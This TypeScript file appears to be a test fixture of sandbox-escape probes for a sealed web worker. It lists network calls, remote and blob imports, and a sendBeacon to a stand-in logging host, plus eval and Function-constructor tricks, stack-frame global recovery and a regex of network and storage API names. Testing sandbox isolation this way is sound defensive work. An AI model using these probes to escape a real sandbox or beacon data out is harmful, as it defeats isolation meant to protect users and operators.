/**
 * Attempts from inside the sealed worker, in JavaScript, as if a hole in Python had been found. Each is an
 * expression that is 'escaped', or a promise of it, where it gets what it wants. BAIT is an address that answers
 * everybody and logs who asks; OWN is the site's own.
 */

export type JavaScriptAttempt = { readonly what: string; readonly expression: string };

/** A name that JavaScript objects lead to even where the global of that name is gone. */
const attempt = (what: string, expression: string): JavaScriptAttempt => ({ what, expression });
const finds = (what: string, expression: string) =>
  attempt(what, `(${expression}) === undefined ? 'nothing' : 'escaped'`);

const NETWORK = [
  attempt('fetch', "fetch('BAIT/fetch').then(() => 'escaped')"),
  attempt('fetch of its own origin', "fetch('OWN/page.js').then(() => 'escaped')"),
  attempt(
    'self.fetch, found on the prototypes',
    "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch('BAIT/prototype')",
  ),
  attempt(
    'XMLHttpRequest',
    "(() => { const request = new XMLHttpRequest(); request.open('GET', 'BAIT/xhr', false); request.send(); return 'escaped'; })()",
  ),
  attempt('WebSocket', "(() => { new WebSocket('BAIT/socket'.replace('http', 'ws')); return 'escaped'; })()"),
  attempt('WebSocketStream', "new WebSocketStream('BAIT/stream'.replace('http', 'ws')).opened"),
  attempt('EventSource', "(() => { new EventSource('BAIT/events'); return 'escaped'; })()"),
  attempt('sendBeacon', "navigator.sendBeacon('BAIT/beacon', 'x') ? 'escaped' : 'nothing'"),
  attempt('WebTransport', "(() => { new WebTransport('https://localhost:1/'); return 'escaped'; })()"),
  attempt('WebRTC', "(() => { new RTCPeerConnection(); return 'escaped'; })()"),
  attempt('importScripts', "(() => { importScripts('BAIT/bait.js'); return 'escaped'; })()"),
  attempt('import() of another host', "import('BAIT/bait.js').then(() => 'escaped')"),
  attempt(
    'import() of a data: address',
    "import('data:text/javascript,self.bitten=1').then(() => 'escaped')",
  ),
  attempt(
    'import() of a blob',
    "import(URL.createObjectURL(new Blob(['self.bitten=1'], { type: 'text/javascript' }))).then(() => 'escaped')",
  ),
  attempt('an image', "(() => { new Image().src = 'BAIT/image'; return 'escaped'; })()"),
  attempt('createImageBitmap of a response', "createImageBitmap(new Response('x')).then(() => 'escaped')"),
  attempt('a font', "new FontFace('a', 'url(BAIT/font)').load().then(() => 'escaped')"),
  attempt('fonts of the scope', "fonts.load('1em a').then(() => 'escaped')"),
  attempt(
    'a reporting endpoint',
    "(() => { new ReportingObserver(() => {}).observe(); return 'escaped'; })()",
  ),
  attempt('background fetch', "navigator.serviceWorker.ready.then(() => 'escaped')"),
  attempt(
    'WebAssembly streaming',
    "WebAssembly.compileStreaming(fetch('BAIT/module.wasm')).then(() => 'escaped')",
  ),
  attempt(
    'WebAssembly streaming of a made response',
    "WebAssembly.instantiateStreaming(new Response(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).then(() => 'escaped')",
  ),
  attempt('a stream as a response', "new Response(new ReadableStream()).text().then(() => 'escaped')"),
  finds('URL and Blob', "typeof URL === 'undefined' && typeof Blob === 'undefined' ? undefined : 1"),
  finds(
    'the address of the page',
    "typeof location === 'undefined' && typeof origin === 'undefined' ? undefined : 1",
  ),
];

const WORKERS = [
  attempt('a nested worker', "(() => { new Worker('OWN/page.js'); return 'escaped'; })()"),
  attempt(
    'a nested worker from a data: address',
    "(() => { new Worker('data:text/javascript,'); return 'escaped'; })()",
  ),
  attempt('a shared worker', "(() => { new SharedWorker('OWN/page.js'); return 'escaped'; })()"),
  attempt('a service worker', "navigator.serviceWorker.register('OWN/page.js').then(() => 'escaped')"),
  attempt('a worklet', "(() => { new AudioWorklet(); return 'escaped'; })()"),
];

const STORAGE = [
  attempt('IndexedDB', "(() => { indexedDB.open('bitten'); return 'escaped'; })()"),
  attempt('the caches', "caches.open('bitten').then(() => 'escaped')"),
  attempt('private files', "navigator.storage.getDirectory().then(() => 'escaped')"),
  attempt('file handles', "(() => { new FileSystemFileHandle(); return 'escaped'; })()"),
  attempt('cookies', "cookieStore.set('bitten', '1').then(() => 'escaped')"),
  finds('localStorage', "typeof localStorage === 'undefined' ? undefined : 1"),
  attempt('storage buckets', "navigator.storageBuckets.open('bitten').then(() => 'escaped')"),
];

const TABS = [
  attempt(
    'BroadcastChannel',
    "(() => { new BroadcastChannel('await-points').postMessage('bitten'); return 'escaped'; })()",
  ),
  attempt('locks', "navigator.locks.request('bitten', () => new Promise(() => {}))"),
  attempt('clients of a service worker', "clients.matchAll().then(() => 'escaped')"),
  attempt('notifications', "(() => { new Notification('bitten'); return 'escaped'; })()"),
  attempt('the page, by postMessage', "(() => { postMessage({ kind: 'ready' }); return 'escaped'; })()"),
  attempt('close', "(() => { close(); return 'escaped'; })()"),
];

const CODE = [
  attempt('eval', "eval('\\'escaped\\'')"),
  attempt('the constructor of functions', "(() => {}).constructor('return \\'escaped\\'')()"),
  attempt('the constructor of async functions', "(async () => {}).constructor('return \\'escaped\\'')()"),
  attempt(
    'the constructor of generators',
    "(function* () {}).constructor('return \\'escaped\\'')().next().value",
  ),
  attempt(
    'the constructor of async generators',
    "(async function* () {}).constructor('yield \\'escaped\\'')().next().then(({ value }) => value)",
  ),
  attempt(
    'a timer with text',
    "new Promise((resolve) => { self.bite = resolve; try { setTimeout('bite(\\'escaped\\')', 0); } catch {} setTimeout(() => resolve('nothing'), 50); })",
  ),
  attempt(
    'globals through stack frames',
    "(() => { let found = 'nothing'; Error.prepareStackTrace = (_, sites) => { for (const site of sites) { const owner = site.getThis?.(); if (owner?.fetch) found = 'escaped'; } return ''; }; void new Error().stack; delete Error.prepareStackTrace; return found; })()",
  ),
  attempt(
    'anything on self or its prototypes that the list does not name',
    "(() => { const names = []; for (let scope = self; scope; scope = Object.getPrototypeOf(scope)) names.push(...Object.getOwnPropertyNames(scope)); return names.filter((name) => /fetch|Socket|Request|Source|Beacon|Worker|Storage|IDB|Cache|Broadcast|Lock|Navigator|Location|Cookie|File|Font|RTCPeer|Transport/i.test(name) && self[name] !== undefined).join() || 'nothing'; })()",
  ),
  attempt(
    'a clone of something that it may not have',
    "(() => { const copy = structuredClone({ at: new ArrayBuffer(8) }); return copy.at.constructor === ArrayBuffer ? 'nothing' : 'escaped'; })()",
  ),
];

export const FROM_JAVASCRIPT: readonly JavaScriptAttempt[] = [
  ...NETWORK,
  ...WORKERS,
  ...STORAGE,
  ...TABS,
  ...CODE,
];
